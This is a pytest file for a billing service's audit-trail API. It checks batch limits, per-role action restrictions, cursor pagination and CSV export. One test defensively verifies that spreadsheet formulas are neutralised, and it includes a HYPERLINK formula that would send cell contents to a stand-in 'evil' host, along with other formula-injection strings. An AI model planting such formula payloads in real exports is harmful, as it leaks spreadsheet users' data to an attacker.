"""The audit trail against a pod's credential: a bounded batch, and only its own role's actions.

Real billing on loopback, holding the writer secret, over a ledger that knows the demo fleet.
``POST /v1/ingest/audit`` keeps its events under the ledger's writer lock, so the batch is
bounded; and the trail says what billing itself did (keys, months), so no pod may write that.
"""

from __future__ import annotations

import csv
import io
import time
from typing import Any

import httpx
import orjson

from infermeter.audit import MAX_BATCH_EVENTS
from infermeter.writers import Credential, Writer, issue
from tests.security import writers as writer_fixtures
from tests.security.writers import ADMIN, SECRET, SMALL_0, bearer

strict, ledger, url = writer_fixtures.strict, writer_fixtures.ledger, writer_fixtures.url
DASHBOARD = issue(SECRET, Writer.for_dashboard())


def event(action: str = "config.reloaded", **kw: Any) -> dict[str, Any]:
    """An audit event as a service spools it, made a few seconds ago."""
    return {
        "event_id": f"ae-{time.time_ns()}-{kw.pop('n', 0)}",
        "occurred_at": time.time() - 5,
        "action": action,
        "actor": "operator (SIGHUP)",
        "actor_role": "",
    } | kw


async def send(url: str, events: list[dict[str, Any]], credential: Credential) -> httpx.Response:
    body = b"".join(orjson.dumps(e) + b"\n" for e in events)
    headers = bearer(credential) | {"content-type": "application/x-ndjson"}
    async with httpx.AsyncClient(timeout=120) as client:
        return await client.post(f"{url}/v1/ingest/audit", content=body, headers=headers)


async def trail(url: str) -> list[dict[str, Any]]:
    async with httpx.AsyncClient() as client:
        answer = await client.get(f"{url}/v1/audit", headers=ADMIN)
    events: list[dict[str, Any]] = answer.json()["events"]
    return events


async def test_an_audit_batch_over_the_bound_is_413_naming_it_and_keeps_nothing(ledger, url):
    """One event more than ``MAX_BATCH_EVENTS`` is refused whole, in the API's error JSON."""
    answer = await send(url, [event(n=i) for i in range(MAX_BATCH_EVENTS + 1)], SMALL_0)
    assert answer.status_code == 413
    error = answer.json()["error"]
    assert error["code"] == "batch_too_large"
    assert f"at most {MAX_BATCH_EVENTS}" in error["message"]
    assert await trail(url) == []


async def test_an_audit_batch_at_the_bound_is_kept_whole_and_once(ledger, url):
    """A full batch is kept, every event once, under the writer that sent it; sent again, nothing."""
    events = [event(n=i) for i in range(MAX_BATCH_EVENTS)]
    first = (await send(url, events, SMALL_0)).json()
    again = (await send(url, events, SMALL_0)).json()
    assert (first["kept"], first["rejected"]) == (MAX_BATCH_EVENTS, [])
    assert (again["kept"], again["rejected"]) == (0, [])
    kept = await trail(url)
    assert len(kept) == MAX_BATCH_EVENTS
    assert {e["source"] for e in kept} == {SMALL_0.writer.principal}


async def test_a_pod_records_only_the_actions_of_its_role(ledger, url):
    """A sidecar may record an override and a reload, never a key revoked or a month closed;
    the dashboard its sign-ins, not an override."""
    sidecar = [
        event("budget.override", n=1),
        event("key.revoked", n=2),
        event("month.closed", n=3),
    ]
    dashboard = [event("signin.failed", n=4), event("budget.override", n=5)]
    from_sidecar = (await send(url, sidecar, SMALL_0)).json()
    from_dashboard = (await send(url, dashboard, DASHBOARD)).json()
    assert from_sidecar["kept"] == 1
    assert [r["id"] for r in from_sidecar["rejected"]] == ["#2", "#3"]
    assert "the instance role records no key.revoked event" in from_sidecar["rejected"][0]["reason"]
    assert from_dashboard["kept"] == 1
    assert [r["id"] for r in from_dashboard["rejected"]] == ["#2"]
    assert sorted(e["action"] for e in await trail(url)) == ["budget.override", "signin.failed"]


async def test_a_trail_longer_than_one_read_says_where_the_next_begins(ledger, url, monkeypatch):
    """Reads are bounded (here at 3 events): an answer that is not the whole range says so with
    ``next`` (the CSV with its headers), and reading on from it gives every event once, events
    of one same second split across two answers included; the last answer's ``next`` is null."""
    monkeypatch.setattr("billing.audit.MAX_READ", 3)
    at = time.time() - 60
    times = [at, at + 1, at + 2, at + 2, at + 2, at + 2, at + 3]
    sent = [event(n=i, occurred_at=t) for i, t in enumerate(times)]
    assert (await send(url, sent, SMALL_0)).status_code == 200
    seen: list[str] = []
    query: dict[str, Any] = {"from": at - 1}
    async with httpx.AsyncClient(base_url=url) as client:
        csv = await client.get("/v1/audit.csv", params=query, headers=ADMIN)
        for _ in range(len(sent)):
            answer = (await client.get("/v1/audit", params=query, headers=ADMIN)).json()
            assert len(answer["events"]) <= 3
            seen += [e["event_id"] for e in answer["events"]]
            if answer["next"] is None:
                break
            query = answer["next"]
    assert seen == [
        e["event_id"] for e in sorted(sent, key=lambda e: (e["occurred_at"], e["event_id"]))
    ]
    assert len(csv.text.splitlines()) == 1 + 3
    assert float(csv.headers["x-infermeter-next-from"]) == at + 2
    assert csv.headers["x-infermeter-next-after"] == seen[2]


async def test_the_audit_csv_defuses_every_formula_a_spreadsheet_would_run(ledger, url):
    """The trail keeps what callers wrote (a revocation's reason, a name from a sign-in): in the
    CSV, a cell a spreadsheet would run as a formula, after blanks or in full width too, starts
    with an apostrophe, and the CSV reader gives every other cell back as kept."""
    hyperlink = ' =HYPERLINK("https://evil/?"&A1,"x")'
    sent = [
        event(n=1, why=hyperlink, actor="\u00a0+1+1", target="team:search"),
        event(n=2, why="\uff1d1+1", actor="ops", target="@SUM(A1)"),
        event(n=3, why="rotated: leaked", actor="-ana", target="team:ml"),
    ]
    assert (await send(url, sent, SMALL_0)).status_code == 200
    async with httpx.AsyncClient(base_url=url) as client:
        answer = await client.get("/v1/audit.csv", headers=ADMIN)
    assert answer.status_code == 200
    cells = {row["event_id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    first, second, third = (cells[e["event_id"]] for e in sent)
    assert (first["why"], first["actor"]) == ("'" + hyperlink, "'\u00a0+1+1")
    assert (second["why"], second["target"]) == ("'\uff1d1+1", "'@SUM(A1)")
    assert (third["why"], third["actor"], third["target"]) == (
        "rotated: leaked",
        "'-ana",
        "team:ml",
    )
    assert float(first["occurred_at"]) == sent[0]["occurred_at"]
